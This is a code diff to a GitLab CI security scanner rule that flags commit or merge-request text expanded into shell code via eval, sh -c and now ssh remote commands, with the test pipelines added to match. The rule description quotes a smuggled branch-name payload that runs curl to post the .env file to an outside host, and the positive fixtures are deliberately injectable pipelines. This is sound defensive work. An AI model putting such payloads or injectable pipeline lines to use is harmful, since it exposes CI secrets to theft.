@@ -61,6 +61,16 @@ function directExpansions(script: string, offset: number): string[] {
   return names;
 }
 
+/** ssh's options that take a value (`-i key`, `-p 22`, `-o Option=value`). */
+const SSH_VALUE_OPTIONS = /^-[46AaCfGgKkMNnqsTtVvXxYy]*[BbcDEeFIiJLlmOoPpQRSWw]$/;
+
+/** The words of an ssh command after its destination: the remote command, which the remote user's shell parses. */
+function sshCommand(words: readonly ShellWord[]): ShellWord[] {
+  let k = 1;
+  while (k < words.length && words[k]!.text.startsWith('-')) k += SSH_VALUE_OPTIONS.test(words[k]!.text) ? 2 : 1;
+  return words.slice(k + 1);
+}
+
 /**
  * Words of a script that the shell reads again as code after expanding them: the arguments
  * of `eval`, and the script of `sh -c '...'` (`bash -ec`, `su -c`, also after a wrapper
@@ -72,6 +82,7 @@ function* injections(script: string): Generator<{ offset: number; name: string; 
     const words = effectiveWords(command);
     const reread: Array<{ word: ShellWord; sink: string }> = [];
     if (basename(words[0]?.text ?? '') === 'eval') reread.push(...words.slice(1).map((word) => ({ word, sink: 'eval' })));
+    if (basename(words[0]?.text ?? '') === 'ssh') reread.push(...sshCommand(words).map((word) => ({ word, sink: SSH_SINK })));
     for (let k = 0; k < words.length; k++) {
       const shell = basename(words[k]!.text);
       if (!SHELLS.has(shell)) continue;
@@ -93,11 +104,14 @@ function* injections(script: string): Generator<{ offset: number; name: string; 
   }
 }
 
+const SSH_SINK = "ssh's remote shell";
+const where = (sink: string) => (sink === SSH_SINK ? 'on the host ssh logs in to' : 'in the job');
+
 const scriptInjection = gitlabRule({
   id: 'iac/gitlab-script-injection',
   title: 'Commit or merge request text run as shell code in CI',
   description:
-    'A job passes a predefined variable whose text a contributor writes (CI_COMMIT_MESSAGE, CI_COMMIT_BRANCH, CI_COMMIT_REF_NAME, CI_MERGE_REQUEST_TITLE, CI_MERGE_REQUEST_SOURCE_BRANCH_NAME...) to a command that reads it again as shell code: `eval`, or the script of `sh -c "..."` (bash, zsh, su -c, also through docker exec or kubectl exec). GitLab hands predefined variables to the job as environment variables, so `echo "$CI_COMMIT_MESSAGE"` only prints the text; but once expanded into the text that eval or sh -c parses, a commit message or branch name such as `x;curl${IFS}-d@.env${IFS}example.org` runs as a command, with the job\'s CI/CD variables. Git allows `$(...)`, `;` and quotes in branch and tag names. A variable inside single quotes or escaped (`sh -c \'echo "$CI_COMMIT_BRANCH"\'`) is expanded by the inner shell as data and is not reported. The shell scripts of the repository that a job runs (`- ./ci/build.sh`, `- bash ci/release.sh`) are read and judged too, on their own lines.',
+    'A job passes a predefined variable whose text a contributor writes (CI_COMMIT_MESSAGE, CI_COMMIT_BRANCH, CI_COMMIT_REF_NAME, CI_MERGE_REQUEST_TITLE, CI_MERGE_REQUEST_SOURCE_BRANCH_NAME...) to a command that reads it again as shell code: `eval`, the script of `sh -c "..."` (bash, zsh, su -c, also through docker exec or kubectl exec), or the remote command of `ssh host ...`, which ssh joins into one line for the remote shell to parse (quoting it locally does not help there). GitLab hands predefined variables to the job as environment variables, so `echo "$CI_COMMIT_MESSAGE"` only prints the text; but once expanded into the text that eval or sh -c parses, a commit message or branch name such as `x;curl${IFS}-d@.env${IFS}example.org` runs as a command, with the job\'s CI/CD variables. Git allows `$(...)`, `;` and quotes in branch and tag names. A variable inside single quotes or escaped (`sh -c \'echo "$CI_COMMIT_BRANCH"\'`) is expanded by the inner shell as data and is not reported. The shell scripts of the repository that a job runs (`- ./ci/build.sh`, `- bash ci/release.sh`) are read and judged too, on their own lines.',
   remediation: 'Do not build shell code from these variables: run the command directly with the variable quoted (`deploy --branch "$CI_COMMIT_BRANCH"`), or pass it to the inner shell as an argument (`sh -c \'deploy --branch "$1"\' sh "$CI_COMMIT_BRANCH"`); use CI_COMMIT_REF_SLUG where a name must be safe.',
   severity: 'high',
   cwe: ['CWE-78', 'CWE-94'],
@@ -105,11 +119,12 @@ const scriptInjection = gitlabRule({
     positive: [
       pipeline('deploy:\n  # expect\n  script:\n    - ./build.sh\n    # detail\n    - eval "deploy --branch $CI_COMMIT_BRANCH"\n'),
       pipeline('notify:\n  # expect\n  script:\n    # detail\n    - docker exec app sh -c "notify \\"${CI_MERGE_REQUEST_TITLE}\\""\n'),
+      pipeline('deploy:\n  # expect\n  script:\n    # detail\n    - ssh -i deploy.key -p 2222 deploy@app.example.org "cd /srv/app && ./deploy.sh $CI_COMMIT_REF_NAME"\n'),
       pipeline("release:\n  # expect\n  script:\n    # detail\n    - bash -ec 'git tag v1 -m '\"$CI_COMMIT_MESSAGE\"\n"),
     ],
     negative: [
       pipeline(
-        "deploy:\n  script:\n    - echo \"Deploying $CI_COMMIT_BRANCH: $CI_COMMIT_MESSAGE\"\n    - deploy --branch \"$CI_COMMIT_BRANCH\"\n    - sh -c 'deploy --branch \"$1\"' sh \"$CI_COMMIT_BRANCH\"\n    - sh -c \"echo \\$CI_MERGE_REQUEST_TITLE\"\n    - eval \"$(ssh-agent -s)\"\n    - eval \"export TAG=$CI_COMMIT_REF_SLUG\"\n    - bash -c \"make deploy ENV=$DEPLOY_ENV\"\n    - grep -c $CI_COMMIT_BRANCH branches.txt\n",
+        "deploy:\n  script:\n    - echo \"Deploying $CI_COMMIT_BRANCH: $CI_COMMIT_MESSAGE\"\n    - deploy --branch \"$CI_COMMIT_BRANCH\"\n    - sh -c 'deploy --branch \"$1\"' sh \"$CI_COMMIT_BRANCH\"\n    - sh -c \"echo \\$CI_MERGE_REQUEST_TITLE\"\n    - eval \"$(ssh-agent -s)\"\n    - eval \"export TAG=$CI_COMMIT_REF_SLUG\"\n    - bash -c \"make deploy ENV=$DEPLOY_ENV\"\n    - grep -c $CI_COMMIT_BRANCH branches.txt\n    - ssh deploy@app.example.org ./deploy.sh \"$CI_COMMIT_SHA\"\n    - scp -P 2222 notes-$CI_COMMIT_REF_NAME.txt deploy@app.example.org:/srv/notes/\n",
       ),
     ],
   },
@@ -117,7 +132,7 @@ const scriptInjection = gitlabRule({
     for (const { owner, scalar, text: script, keyLine } of pipelineScripts(p)) {
       for (const { offset, name, sink } of injections(script)) {
         const at = inside(keyLine, lineOf(p, scalar, offset));
-        yield { ...at, message: `${owner} expands $${name} into the code ${sink} runs${detailNote(at)}: whoever writes ${WRITTEN_BY[name]} can run commands in the job.`, resource: owner };
+        yield { ...at, message: `${owner} expands $${name} into the code ${sink} runs${detailNote(at)}: whoever writes ${WRITTEN_BY[name]} can run commands ${where(sink)}.`, resource: owner };
       }
     }
   },
@@ -129,7 +144,7 @@ const scriptInjection = gitlabRule({
     },
     *check(script) {
       for (const { offset, name, sink } of injections(script.text))
-        yield { line: lineAtOffset(script.text, offset), message: `$${name} is expanded into the code ${sink} runs${inScript(script)}: whoever writes ${WRITTEN_BY[name]} can run commands in the job.`, key: `${offset}\0${name}` };
+        yield { line: lineAtOffset(script.text, offset), message: `$${name} is expanded into the code ${sink} runs${inScript(script)}: whoever writes ${WRITTEN_BY[name]} can run commands ${where(sink)}.`, key: `${offset}\0${name}` };
     },
   },
 });
